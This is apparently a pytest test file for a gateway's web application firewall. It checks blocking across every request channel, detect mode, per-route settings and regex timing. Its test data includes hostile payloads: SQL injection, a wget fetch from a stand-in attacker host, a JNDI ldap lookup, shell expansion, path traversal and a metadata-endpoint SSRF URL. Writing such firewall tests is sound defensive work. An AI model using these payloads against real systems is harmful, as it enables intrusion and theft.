"""The firewall: attacks are refused on every way in, ordinary values are not, and a body goes on as it came."""

import time
from pathlib import Path
from random import Random
from urllib.parse import quote, quote_plus

import orjson
import pytest

from bff.config import ConfigError, load
from bff.core.route import Route
from bff.edge.firewall import FirewallSettings, Inspection
from bff.edge.firewall.rules import rules
from bff.graphql.trusted import read, sha256_of
from tests.graphql.test_defer import NEW
from tests.harness import gateway, operator
from tests.live.socket import Socket
from tests.live.sse import EventStream

ORDINARY = {
    section.split("]")[0].lstrip("["): section.split("\n")[1:]
    for section in Path(__file__).with_name("ordinary.txt").read_text().strip().split("\n\n")[1:]
}
PATH = "/api/products/prd_1"
FORM = "application/x-www-form-urlencoded"
ATTACKS = {
    "sql-tautology": "x' OR '1'='1",
    "sql-select": "1 UNION SELECT password FROM users",
    "sql-stacked": "1; DROP TABLE users",
    "command-unix": "a | wget http://evil.example/x",
    "shell-expansion": "$(cat flag)",
    "script-tag": "<script>alert(1)</script>",
    "traversal-dots": "../../etc/passwd",
    "java-lookup": "${jndi:ldap://evil.example/a}",
    "template-expression": "{{7*7}}",
    "template-prototype": "__proto__",
    "template-ssrf": "http://169.254.169.254/latest/meta-data",
}


@pytest.fixture(scope="module")
def inspection():
    return Inspection(FirewallSettings(mode="block"))


def is_blocked(response):
    return (response.status_code, response.json().get("code")) == (403, "REQUEST_BLOCKED")


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
async def test_an_attack_is_refused_wherever_it_stands_and_no_service_sees_it(attack):
    client, services = gateway(firewall={"mode": "block"})
    assert is_blocked(await client.get(f"{PATH}?q={quote_plus(attack)}"))
    assert is_blocked(await client.get(PATH, headers={"x-note": attack}))
    assert is_blocked(await client.get(PATH, headers={"cookie": f"a={quote(attack)}"}))
    assert is_blocked(await client.post("/api/orders", json={"a": [{"b": attack}]}, headers=operator()))
    assert is_blocked(await client.post("/api/orders", json={attack: 1}, headers=operator()))
    assert is_blocked(await client.post("/api/orders", data={"q": attack}, headers=operator()))
    assert not services.calls


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
async def test_graphql_is_judged_by_the_strings_that_go_on_and_never_by_its_syntax(attack):
    running = gateway(firewall={"mode": "block"})
    by_variable = await running.query("query ($id: ID!) { product(id: $id) { name } }", {"id": attack})
    literal = attack.replace("\\", "\\\\").replace('"', '\\"')
    by_literal = await running.query(f'{{ product(id: "{literal}") {{ name }} }}')
    for answer in (by_variable, by_literal):
        assert (answer.status, answer.codes) == (403, ["REQUEST_BLOCKED"])
    assert not running.services.calls


@pytest.mark.parametrize(
    "hidden",
    [
        "%27%20or%20%271%27%3D%271",
        "&#39; or &#39;1&#39;=&#39;1",
        r"\u0027 or \u00271\u0027=\u00271",
        "1/**/union/**/select/**/1",
        "|w''get -x",
    ],
)
async def test_codings_and_comments_do_not_hide_an_attack(hidden):
    client, _ = gateway(firewall={"mode": "block"})
    assert is_blocked(await client.get(PATH, params={"q": hidden}))


async def test_what_is_said_of_a_match_names_the_rule_and_never_the_value():
    running = gateway(firewall={"mode": "block"})
    answer = await running.client.get(PATH, params={"q": "1; DROP TABLE secret_users"})
    assert answer.json()["rule"] == "sql-stacked"
    (line,) = [line for line in running.log if line["event"] == "firewall"]
    assert (line["rule"], line["where"], line["blocked"], line["route"]) == ("sql-stacked", "query", True, "products")
    assert "secret_users" not in f"{running.log} {answer.text}"
    assert await running.metrics("bff_firewall_matches_total") == {
        (("decision", "blocked"), ("rule", "sql-stacked")): 1
    }


async def test_detect_counts_and_lets_pass():
    running = gateway(firewall={"mode": "detect"})
    assert (await running.client.get(PATH, params={"q": "1; DROP TABLE users"})).status_code == 200
    assert (await running.query("{ product(id: \"prd_1' or '1'='1\") { name } }")).status == 200
    counted = await running.metrics("bff_firewall_matches_total")
    assert {dict(labels)["decision"] for labels in counted} == {"detected"}
    assert sum(counted.values()) == 2


async def test_a_route_has_its_own_mode():
    products = {
        "routes": [
            {
                "name": "p",
                "path": "/p/{rest*}",
                "service": "products",
                "public": True,
                "rewrite": "/products/{rest}",
                "firewall": "block",
            }
        ]
    }
    client, _ = gateway(**products)
    assert is_blocked(await client.get("/p/prd_1", params={"q": "1; DROP TABLE users"}))
    products["routes"][0]["firewall"] = "off"
    client, _ = gateway(firewall={"mode": "block"}, **products)
    assert (await client.get("/p/prd_1", params={"q": "1; DROP TABLE users"})).status_code == 200


async def test_a_rule_can_be_switched_off_and_a_wrong_name_is_an_error_at_load():
    client, _ = gateway(firewall={"mode": "block", "disabled": ["sql-stacked", "sql-create"]})
    assert (await client.get(PATH, params={"q": "1; DROP TABLE users"})).status_code == 200
    with pytest.raises(ConfigError, match="did you mean `sql-stacked`"):
        load("services: {}\nfirewall: {disabled: [sql-staked]}")


async def test_without_it_a_request_crosses_no_such_layer():
    assert "Firewall" not in [type(layer).__name__ for layer in gateway().layers]
    assert "Firewall" in [type(layer).__name__ for layer in gateway(firewall={"mode": "detect"}).layers]


@pytest.mark.parametrize("where", ["query", "json", "form", "text", "header"])
def test_ordinary_values_pass(inspection, where):
    for value in (each.replace("\\n", "\n") for each in ORDINARY["value"]):
        found = None
        match where:
            case "query":
                found = inspection.values([value])
            case "json":
                found = inspection.body(b"application/json", orjson.dumps({"note": value, "list": [value]}))
            case "form":
                found = inspection.body(FORM.encode(), f"q={quote_plus(value)}".encode())
            case "text":
                found = inspection.body(b"text/plain", value.encode())
            case "header":
                found = inspection.headers([(b"x-note", value.replace("\n", " ").encode())])
        assert not found, value


def test_ordinary_clients_cookies_pages_and_paths_pass(inspection):
    for name in ("user-agent", "cookie", "referer"):
        for value in ORDINARY[name]:
            assert not inspection.headers([(name.encode(), value.encode())]), value
    for path in ORDINARY["path"]:
        scope = {"raw_path": path.encode(), "query_string": b"", "headers": [], "bff.route": Route("any", "/{rest*}")}
        assert not inspection.head(scope), path


async def test_a_body_goes_on_as_it_came_also_beyond_what_is_read():
    client, services = gateway(firewall={"mode": "block", "max_body": "1KB"})
    body = b'{"note": "' + b"a" * 5000 + b'"}'
    await client.post("/api/orders", content=body, headers=operator() | {"content-type": "application/json"})
    assert services.orders.calls[-1].body == body


def test_hostile_text_is_read_in_time_that_grows_with_its_length_alone(inspection):
    draw = Random(1)  # noqa: S311
    signs = "'\"`;|&$(){}[]<>=/\\.-#%@!~*:,?\v abcdefghijklmnopqrstuvwxyz0123456789"
    words = ["select ", "union", " or ", "eval(", "<?php", "<script", "${", "../", "; cat ", "{{", ")(", "case when"]
    texts = [
        "".join(draw.choice(words) if draw.random() < 0.3 else draw.choice(signs) for _ in range(10_000))
        for _ in range(3)
    ]
    inspection.values(texts[:1])  # what RE2 learns of a text it keeps
    started = time.process_time()
    for text in texts:
        inspection.values(["x" * 10 + text[:10_000]])
    assert (time.process_time() - started) / len(texts) < 0.25  # some 10 ms; minutes, were it to backtrack


def test_every_rule_has_an_id_of_its_own_and_compiles():
    ids = [rule.id for rule in rules()]
    assert len(ids) == len(set(ids))


async def test_an_attack_in_one_operation_of_a_batch_is_refused():
    shop = gateway(firewall={"mode": "block"})
    batch = [{"query": "{ __typename }"}, {"query": "{ product(id: \"x' OR '1'='1\") { id } }"}]
    response = await shop.client.post("/graphql", json=batch, headers=operator())
    assert response.status_code == 403
    assert shop.services.calls == []


ATTACK = "x' OR '1'='1"
BY_VARIABLE = "query ($id: ID!) { product(id: $id) { name } }"


@pytest.mark.parametrize("in_variable", [True, False])
async def test_operations_are_read_on_every_way_that_they_come(in_variable, tmp_path):
    (tmp_path / "a.graphql").write_text(
        f"{BY_VARIABLE}\n" if in_variable else f'{{ product(id: "{ATTACK}") {{ name }} }}'
    )
    (trusted,) = read(tmp_path)[:1]
    document = trusted.text
    sent = {"query": document, "variables": {"id": ATTACK} if in_variable else {}}
    graphql = {"defer": True, "documents": {"path": str(tmp_path)}}
    running = gateway(firewall={"mode": "block"}, graphql=graphql)
    by_hash = {"extensions": {"persistedQuery": {"version": 1, "sha256Hash": sha256_of(document)}}}
    deferred = sent | {
        "query": document.replace("{ name }", "{ ... @defer { name } }").replace("name\n", "...@defer{name}\n")
    }
    answers = [
        await running.client.post("/graphql", json=sent),
        await running.client.get(
            "/graphql", params={k: v if k == "query" else orjson.dumps(v).decode() for k, v in sent.items()}
        ),
        await running.client.post("/graphql", json=sent | by_hash),
        await running.client.post("/graphql", json={**by_hash, "variables": sent["variables"]}),
        await running.client.post("/graphql", json={"id": sha256_of(document), "variables": sent["variables"]}),
        await running.client.post(f"/graphql/{sha256_of(document)}", json={"variables": sent["variables"]}),
        await running.client.post("/graphql", json=deferred, headers=NEW),
    ]
    assert [each.status_code for each in answers] == [403] * len(answers)
    assert {each.json()["errors"][0]["extensions"]["code"] for each in answers} == {"REQUEST_BLOCKED"}
    async with EventStream(running.app, **sent) as stream:
        assert stream.status == 403
    async with Socket(running.app) as socket:
        await socket.init()
        await socket.subscribe("1", document, variables=sent["variables"])
        assert (await socket.hear())["payload"][0]["extensions"]["code"] == "REQUEST_BLOCKED"
        await socket.subscribe("2", "{ __typename }")
        assert (await socket.hear())["type"] == "next"
    assert not running.services.calls


async def test_of_a_websocket_whose_handshake_is_suspicious_the_operations_are_read_all_the_same():
    running = gateway(firewall={"mode": "detect"})
    async with Socket(running.app, headers={"x-note": ATTACK}) as socket:
        await socket.init()
        await socket.subscribe("1", BY_VARIABLE, variables={"id": ATTACK})
        assert (await socket.hear())["type"] == "next"
    assert [line["where"] for line in running.log if line["event"] == "firewall"] == ["headers", "variables"]


def test_without_its_library_modsecurity_is_an_error_at_the_start_and_only_where_it_would_look():
    modsecurity = {"rules": ["/rules.conf"], "library": "libnothing.so.3"}
    with pytest.raises(ConfigError, match=r"the library cannot be loaded: libnothing.so.3.*Install Debian"):
        gateway(firewall={"mode": "block", "modsecurity": modsecurity})
    gateway(firewall={"mode": "off", "modsecurity": modsecurity})
